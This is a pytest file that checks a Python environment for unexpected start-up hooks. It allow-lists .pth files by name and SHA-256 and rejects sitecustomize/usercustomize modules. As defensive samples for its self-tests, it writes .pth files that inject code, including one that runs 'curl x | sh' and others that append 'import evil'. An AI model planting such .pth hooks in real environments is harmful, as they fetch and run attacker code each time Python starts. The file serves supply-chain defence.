"""Supply chain: no unexpected code runs at interpreter start-up.

Three hooks run code every time Python starts, before any of ours:

* ``.pth`` files in site-packages: ``site`` executes each line that starts with ``import``
  (then a space or a tab) — which is how compromised releases (for example litellm 1.82.7
  and 1.82.8) ran their payload — and adds every other line to ``sys.path``;
* ``sitecustomize`` and ``usercustomize`` modules anywhere on ``sys.path``.

The allow-list is by **exact file name and exact content** (a SHA-256 of the bytes), not
by the shape of a line: a file that merely looks like an editable-install hook fails. The
only ``.pth`` accepted with a computed content is this project's own editable install,
whose single line must be this checkout's root folder. No ``sitecustomize.py`` or
``usercustomize.py`` may exist in any site folder or on ``sys.path``.
"""

from __future__ import annotations

import hashlib
import importlib.machinery
import os
import site
import sys
import sysconfig
from pathlib import Path

REPO = Path(os.path.abspath(__file__)).parents[1]

#: ``.pth`` file name -> SHA-256 of its exact bytes (setuptools' distutils shim, as shipped).
ALLOWED_PTH: dict[str, frozenset[str]] = {
    "distutils-precedence.pth": frozenset({
        hashlib.sha256(
            b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
            b"'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
        ).hexdigest(),
    }),
}
#: This project's editable install (hatchling's ``dev-mode-dirs``, which the wheel's
#: bundled notebooks and sample need: pyproject.toml): one path line, no code.
EDITABLE_PTH = "_accordkit.pth"
STARTUP_MODULES = ("sitecustomize", "usercustomize")


def site_package_dirs() -> list[Path]:
    dirs = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
    dirs.update(getattr(site, "getsitepackages", list)())
    if site.ENABLE_USER_SITE:
        dirs.add(site.getusersitepackages())
    return sorted(Path(d) for d in dirs if Path(d).is_dir())


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def editable_contents(root: Path) -> frozenset[str]:
    """The accepted hashes of the editable-install ``.pth``: the checkout root, one line
    (as given or with symlinks resolved, with or without a final newline)."""
    texts = {str(root), str(root.resolve())}
    return frozenset(hashlib.sha256(v.encode()).hexdigest()
                     for text in texts for v in (text, text + "\n"))


def unexpected_pth(folders: list[Path], *, root: Path = REPO) -> list[str]:
    """Every ``.pth`` file whose name and exact content are not on the allow-list."""
    allowed = {**ALLOWED_PTH, EDITABLE_PTH: editable_contents(root)}
    problems = []
    for folder in folders:
        for pth in sorted(folder.glob("*.pth")):
            if pth.name not in allowed:
                problems.append(f"{pth}: file not on the allow-list")
            elif sha256(pth) not in allowed[pth.name]:
                problems.append(f"{pth}: content differs from the allowed one "
                                f"(sha256 {sha256(pth)[:16]}...)")
    return problems


def startup_modules(folders: list[Path]) -> list[str]:
    """``sitecustomize`` / ``usercustomize`` modules in ``folders`` (any importable form)."""
    found = []
    for folder in folders:
        for name in STARTUP_MODULES:
            for suffix in (*importlib.machinery.all_suffixes(), ""):
                candidate = folder / f"{name}{suffix}"
                if suffix == "" and not (candidate / "__init__.py").is_file():
                    continue
                if candidate.exists():
                    found.append(str(candidate))
    return found


def test_no_unexpected_pth_files():
    folders = site_package_dirs()
    assert any(sys.prefix in str(f) for f in folders)
    assert unexpected_pth(folders) == []


def test_no_sitecustomize_or_usercustomize_anywhere_on_the_path():
    folders = site_package_dirs() + [Path(p) for p in sys.path if p and Path(p).is_dir()]
    assert startup_modules(folders) == []
    # one that was already imported at start-up (from a folder since removed from sys.path)
    assert [m for m in STARTUP_MODULES if getattr(sys.modules.get(m), "__file__", None)] == []


def test_the_check_flags_any_pth_not_allowed_by_exact_name_and_content(tmp_path):
    root = tmp_path / "checkout"
    # the red team's reproduction: an editable-looking hook under an editable-looking name
    (tmp_path / "_x.pth").write_text("import _y_editable\n")
    (tmp_path / "litellm_init.pth").write_text(
        "import os, subprocess; subprocess.Popen(['sh', '-c', 'curl x | sh'])\n")
    (tmp_path / "paths.pth").write_text("/some/path\n")           # sys.path entries count too
    (tmp_path / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
        "== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    (tmp_path / EDITABLE_PTH).write_text(str(root))
    assert sorted(p.split(": ", 1)[0].rsplit("/", 1)[1]
                  for p in unexpected_pth([tmp_path], root=root)) == \
        ["_x.pth", "litellm_init.pth", "paths.pth"]
    # the allowed names with one byte changed are flagged
    (tmp_path / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
        "== 'local'; enabled and __import__('_distutils_hack').add_shim(); import evil\n")
    (tmp_path / EDITABLE_PTH).write_text(f"{root}\nimport evil\n")
    flagged = unexpected_pth([tmp_path], root=root)
    assert sum("content differs" in p for p in flagged) == 2


def test_the_check_finds_startup_modules(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "sitecustomize.py").write_text("import os\n")
    (tmp_path / "b" / "usercustomize").mkdir(parents=True)
    (tmp_path / "b" / "usercustomize" / "__init__.py").write_text("")
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "sitecustomize.txt").write_text("not a module")
    found = startup_modules([tmp_path / "a", tmp_path / "b", tmp_path / "c"])
    assert [Path(p).relative_to(tmp_path).parts[0] for p in found] == ["a", "b"]
